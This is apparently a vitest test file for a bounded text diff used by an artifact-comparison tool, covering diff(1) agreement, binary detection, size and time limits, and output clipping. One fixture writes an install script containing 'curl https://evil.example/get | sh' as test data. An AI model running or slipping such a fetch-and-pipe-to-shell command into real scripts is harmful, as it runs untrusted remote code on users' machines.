/**
 * The bounded text diff the comparers attach for the HTML report (formats/compare/text-diff.ts):
 * text only, bounded in input and output, agreeing with diff(1) on what changed.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compareArtifacts } from '../../../lambda/formats/compare/index';
import { clipDiff, MAX_DIFF_LINES, MAX_DIFF_MS, MAX_TEXT_BYTES, textDiffOf } from '../../../lambda/formats/compare/text-diff';
import { toolsAvailable } from '../../support/tools';
import { spawnSync } from 'node:child_process';

let dir: string;
const p = (n: string) => join(dir, n);
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'rv-textdiff-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('text diff capture', () => {
  it.skipIf(!toolsAvailable('diff'))('changed lines agree with diff(1)', async () => {
    const a = Array.from({ length: 40 }, (_, i) => `line ${i}`);
    const b = [...a];
    b[5] = 'line five changed';
    b.splice(30, 1);
    writeFileSync(p('a.txt'), a.join('\n') + '\n');
    writeFileSync(p('b.txt'), b.join('\n') + '\n');
    const d = await textDiffOf(p('a.txt'), p('b.txt'), 'x.txt');
    expect('unified' in d).toBe(true);
    const ours = (d as { unified: string }).unified.split('\n').filter((l) => /^[-+](?![-+]{2} )/.test(l));
    const ref = spawnSync('diff', ['-u', p('a.txt'), p('b.txt')], { encoding: 'utf8' })
      .stdout.split('\n')
      .filter((l) => /^[-+](?![-+]{2} )/.test(l));
    expect(ours).toEqual(ref);
    expect(ours).toEqual(['-line 5', '+line five changed', '-line 30']);
  });

  it('control bytes that are valid UTF-8 (a run of 0x03) are binary; tabs, CRLF and ESC colours stay text', async () => {
    writeFileSync(p('ctl1'), Buffer.alloc(100, 3));
    writeFileSync(p('ctl2'), Buffer.concat([Buffer.alloc(50, 3), Buffer.from([9]), Buffer.alloc(49, 3)]));
    expect(await textDiffOf(p('ctl1'), p('ctl2'), 'c')).toHaveProperty('unavailable');
    writeFileSync(p('log1'), '\x1b[31merror\x1b[0m\tone\r\n');
    writeFileSync(p('log2'), '\x1b[31merror\x1b[0m\ttwo\r\n');
    expect(await textDiffOf(p('log1'), p('log2'), 'l')).toHaveProperty('unified');
  });

  it('binary (NUL or invalid UTF-8) and oversized files get no diff', async () => {
    writeFileSync(p('bin1'), Buffer.from([1, 2, 0, 3]));
    writeFileSync(p('bin2'), Buffer.from([1, 2, 0, 4]));
    expect(await textDiffOf(p('bin1'), p('bin2'), 'b')).toHaveProperty('unavailable');
    writeFileSync(p('latin1'), Buffer.from([0x63, 0x61, 0x66, 0xe9]));
    writeFileSync(p('utf8'), 'café');
    expect(await textDiffOf(p('latin1'), p('utf8'), 'c')).toHaveProperty('unavailable');
    writeFileSync(p('big1'), 'x'.repeat(MAX_TEXT_BYTES + 2));
    writeFileSync(p('big2'), 'y'.repeat(MAX_TEXT_BYTES + 2));
    expect(await textDiffOf(p('big1'), p('big2'), 'big')).toHaveProperty('unavailable');
  });

  it('text crafted to make the diff costly (≈ 2.5 s without a time bound) gives up after MAX_DIFF_MS: no inline diff, no stall', async () => {
    // near-matching lines with a change every 19 lines: Myers explores thousands of diagonals with
    // long snakes before reaching the edit bound
    const n = 32_000; // ≈ 230 KiB each, under MAX_TEXT_BYTES
    writeFileSync(p('costly-a.txt'), Array.from({ length: n }, (_, i) => `line ${i % 7}`).join('\n'));
    writeFileSync(p('costly-b.txt'), Array.from({ length: n }, (_, i) => (i % 19 === 0 ? `changed ${i}` : `line ${i % 7}`)).join('\n'));
    const started = performance.now();
    const d = await textDiffOf(p('costly-a.txt'), p('costly-b.txt'), 'x.txt');
    const ms = performance.now() - started;
    expect(d).toEqual({ unavailable: expect.stringContaining(`within ${MAX_DIFF_MS} ms`) });
    // the bound plus reading and decoding two 280 KiB files, with room for a loaded machine
    expect(ms).toBeLessThan(MAX_DIFF_MS + 1_000);
  });

  it('clips the diff to whole lines and says so', () => {
    const long = Array.from({ length: 500 }, (_, i) => `+${i}`).join('\n');
    const c = clipDiff(long);
    expect(c.truncated).toBe(true);
    expect(c.unified.split('\n')).toHaveLength(MAX_DIFF_LINES);
    expect(c.totalLines).toBe(500);
    expect(clipDiff('-a\n+b\n')).toEqual({ unified: '-a\n+b', truncated: false });
  });

  it('a top-level text asset compared by bytes carries the diff on its first difference; identical files none', async () => {
    writeFileSync(p('install1.sh'), '#!/bin/sh\ncurl https://example.com/get | sh\n');
    writeFileSync(p('install2.sh'), '#!/bin/sh\ncurl https://evil.example/get | sh\n');
    const r = await compareArtifacts(p('install1.sh'), p('install2.sh'));
    expect(r.match).toBe(false);
    expect(r.differences[0]?.textDiff?.unified).toContain('+curl https://evil.example/get | sh');
    const same = await compareArtifacts(p('install1.sh'), p('install1.sh'));
    expect(same.differences).toEqual([]);
  });
});
